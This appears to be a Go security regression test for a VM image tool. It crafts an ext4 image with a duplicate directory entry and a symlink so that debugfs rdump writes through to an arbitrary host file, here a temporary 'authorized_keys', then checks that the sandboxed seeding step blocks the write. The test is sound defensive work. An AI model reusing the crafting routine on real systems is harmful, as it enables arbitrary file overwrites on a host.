package attack

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"banger/internal/image"
)

// needRootTools skips without root or the tools the attacks craft their
// filesystems with.
func needRootTools(t *testing.T, tools ...string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: run as root (sudo make test)")
	}
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s: apt-get install e2fsprogs bubblewrap", tool)
		}
	}
}

// debugfsW runs debugfs -w commands on img (the attacker's own tool: a guest
// has debugfs too).
func debugfsW(t *testing.T, img string, cmds []string) {
	t.Helper()
	f := filepath.Join(t.TempDir(), "cmds")
	os.WriteFile(f, []byte(strings.Join(cmds, "\n")+"\n"), 0o644)
	if out, err := exec.Command("debugfs", "-w", "-f", f, img).CombinedOutput(); err != nil {
		t.Fatalf("debugfs: %v\n%s", err, out)
	}
}

// craftRdumpAttack makes an ext4 image whose /root holds `x`, a symlink to
// target, and — in a later directory block, where e2fsck -fy does not look
// for duplicates — a second entry `x` that is a regular file holding
// payload. debugfs's rdump makes the symlink first, then opens "x" to write
// the file and follows the symlink: an arbitrary write wherever it runs.
func craftRdumpAttack(t *testing.T, img, target, payload string) {
	t.Helper()
	if out, err := exec.Command("truncate", "-s", "32M", img).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	// The guest makes its filesystem as it likes: no checksums to redo.
	if out, err := exec.Command("mkfs.ext4", "-q", "-F", "-b", "4096", "-O", "^metadata_csum,^dir_index", img).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	pf := filepath.Join(t.TempDir(), "payload")
	os.WriteFile(pf, []byte(payload), 0o644)
	cmds := []string{"mkdir root", "symlink root/x " + target}
	for i := 0; i < 40; i++ { // long names: the first blocks fill up
		cmds = append(cmds, fmt.Sprintf("write /dev/null root/f%0200d", i))
	}
	for i := 0; i < 150; i++ { // short names fill the blocks' tails
		cmds = append(cmds, fmt.Sprintf("write /dev/null root/s%d", i))
	}
	debugfsW(t, img, append(cmds, "write "+pf+" root/X"))
	// Rename X to x in place: name_len 1, type regular, 'X'.
	b, err := os.ReadFile(img)
	if err != nil {
		t.Fatal(err)
	}
	sym := bytes.Index(b, []byte("\x01\x07x"))
	reg := bytes.Index(b, []byte("\x01\x01X"))
	if sym < 0 || reg < 0 || reg/4096 == sym/4096 {
		t.Fatalf("crafting: entries at %d and %d, want them in different blocks", sym, reg)
	}
	b[reg+2] = 'x'
	if err := os.WriteFile(img, b, 0o644); err != nil {
		t.Fatal(err)
	}
	// e2fsck -fn sees nothing wrong with it.
	if out, err := exec.Command("e2fsck", "-fn", img).CombinedOutput(); err != nil {
		t.Logf("e2fsck -fn on the crafted image: %v\n%s", err, out)
	}
}

// TestAttackRdumpSymlinkWrite: a guest's filesystem whose /root makes
// rdump write through a symlink to a host file (issue 12, item 1), handed
// to the work-seed step that register, promote and heal share. The host
// file outside the staging dir must not change; the seed is made.
func TestAttackRdumpSymlinkWrite(t *testing.T) {
	needRootTools(t, "debugfs", "mkfs.ext4", "e2fsck", "bwrap")
	// World-writable, in a world-writable dir: only the sandbox's own
	// mount namespace keeps the tool away from it.
	victimDir, err := os.MkdirTemp("", "banger-victim-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(victimDir)
	os.Chmod(victimDir, 0o1777)
	victim := filepath.Join(victimDir, "authorized_keys")
	if err := os.WriteFile(victim, []byte("original\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	os.Chmod(victim, 0o666)
	staging := t.TempDir()
	craftRdumpAttack(t, filepath.Join(staging, image.RootfsFile), victim, "PWNED by the guest\n")
	err = image.SeedFromRootfs(context.Background(), staging)
	if b, _ := os.ReadFile(victim); string(b) != "original\n" {
		t.Fatalf("the host file %s outside the staging dir was written through the guest's symlink: %q", victim, b)
	}
	if err != nil {
		t.Fatalf("making the work-seed: %v", err)
	}
	if fi, err := os.Stat(filepath.Join(staging, image.WorkSeedFile)); err != nil || fi.Size() == 0 {
		t.Fatalf("no work-seed: %v", err)
	}
	ents, _ := os.ReadDir(victimDir)
	if len(ents) != 1 {
		t.Errorf("files appeared beside the victim: %v", ents)
	}
}
